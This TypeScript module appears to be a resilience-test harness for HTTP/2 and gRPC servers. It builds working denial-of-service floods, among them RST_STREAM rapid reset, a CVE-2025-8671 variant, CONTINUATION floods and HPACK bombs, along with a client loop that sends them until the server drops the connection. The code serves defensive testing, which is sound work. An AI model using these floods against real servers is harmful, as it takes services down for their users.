/** A path in; floods of HTTP/2 frames at it out, by name, and a client that sends one as a patient attacker would. */
import type { Socket } from "node:net";
import { setImmediate as nextTurn, setTimeout as wait } from "node:timers/promises";

const kinds = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 } as const;
const endStream = 1;
const endHeaders = 4;

function frame(kind: keyof typeof kinds, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = kinds[kind];
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A text of HPACK without Huffman coding; its length is a prefix of seven bits, which may go on. */
function text(value: string): Buffer {
  const length =
    value.length < 127 ? [value.length] : [127, ((value.length - 127) & 127) | 128, (value.length - 127) >> 7];
  return Buffer.concat([Buffer.from(length), Buffer.from(value)]);
}

const nothing = Buffer.alloc(0);
const greeting = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame("settings", 0, 0, nothing)]);
const setting = Buffer.from([0, 1, 0, 0, 0x10, 0]);

/** What is sent in one round; rounds are counted from 0 on each connection. */
export type Flood = (round: number) => Buffer;

/** Each wants work or memory of its receiver and next to nothing of its sender. `path` is one that takes gRPC calls. */
export function frameFloods(path: string): Readonly<Record<string, Flood>> {
  /** A call, in HPACK with the static table alone. */
  const request = Buffer.concat([
    Buffer.from([0x83, 0x86, 0x04]),
    text(path),
    Buffer.from([0x01]),
    text("a"),
    Buffer.from([0x0f, 0x10]),
    text("application/grpc"),
  ]);
  /** A header that goes into the dynamic table, and then is said by one byte each time. */
  const bomb = Buffer.concat([
    request,
    Buffer.from([0x40]),
    text("x"),
    text("a".repeat(3072)),
    Buffer.alloc(10_000, 0xbe),
  ]);
  const idOf = (round: number): number => 2 * round + 1;
  const opened = (round: number, ...then: readonly Buffer[]): Buffer =>
    Buffer.concat([frame("headers", endHeaders, idOf(round), request), ...then]);
  const within =
    (first: Buffer, next: Buffer): Flood =>
    (round) =>
      round === 0 ? first : next;
  const unended = frame("headers", 0, 1, request);
  return {
    PING: () => frame("ping", 0, 0, Buffer.alloc(8)),
    SETTINGS: () => frame("settings", 0, 0, nothing),
    "SETTINGS of many values": () => frame("settings", 0, 0, Buffer.concat(Array(2000).fill(setting))),
    PRIORITY: () => frame("priority", 0, 1, Buffer.from([0, 0, 0, 0, 1])),
    "RST_STREAM of opened streams": (round) => opened(round, frame("reset", 0, idOf(round), Buffer.from([0, 0, 0, 8]))),
    // The server is made to reset them itself (CVE-2025-8671): by a window of nothing more, and by data after their end.
    "streams to be reset for their window": (round) => opened(round, frame("window", 0, idOf(round), Buffer.alloc(4))),
    "streams to be reset for their data": (round) =>
      Buffer.concat([
        frame("headers", endHeaders | endStream, idOf(round), request),
        frame("data", 0, idOf(round), Buffer.from([1])),
      ]),
    "empty DATA": within(opened(0), frame("data", 0, 1, nothing)),
    CONTINUATION: within(
      unended,
      frame("continuation", 0, 1, Buffer.concat([Buffer.from([0]), text("x"), text("y".repeat(100))])),
    ),
    "empty CONTINUATION": within(unended, frame("continuation", 0, 1, nothing)),
    "HPACK bombs": (round) => frame("headers", endHeaders, idOf(round), bomb),
  };
}

/** What comes before the first frame of a flood. */
export const greet = (socket: Socket): boolean => socket.write(greeting);

/** What a server takes before it must have ended the session; a flood that it takes for ever fails the test. */
const maxRounds = 400_000;
const maxBytes = 1e9;
const atOnce = 50;
/** In which it reads what the kernel holds: that takes megabytes of small frames before a server has a turn. */
const readMs = 5000;

/** Writes, and reads what comes back, until the other side has closed; false where it never did. */
export async function flood(socket: Socket, next: Flood): Promise<boolean> {
  let mayGoOn = Promise.withResolvers<void>();
  socket.resume().on("error", () => {});
  socket.on("drain", () => mayGoOn.resolve()).on("close", () => mayGoOn.resolve());
  let bytes = 0;
  for (let round = 0; !socket.destroyed && round < maxRounds && bytes < maxBytes; round += atOnce) {
    const batch = Buffer.concat(Array.from({ length: atOnce }, (_, i) => next(round + i)));
    bytes += batch.length;
    mayGoOn = Promise.withResolvers();
    if (socket.write(batch)) await nextTurn();
    else if (!socket.destroyed) await mayGoOn.promise;
  }
  const closed = new Promise<void>((resolve) => void socket.once("close", () => resolve()));
  if (!socket.destroyed) await Promise.race([closed, wait(readMs, undefined, { ref: false })]);
  return socket.destroyed;
}
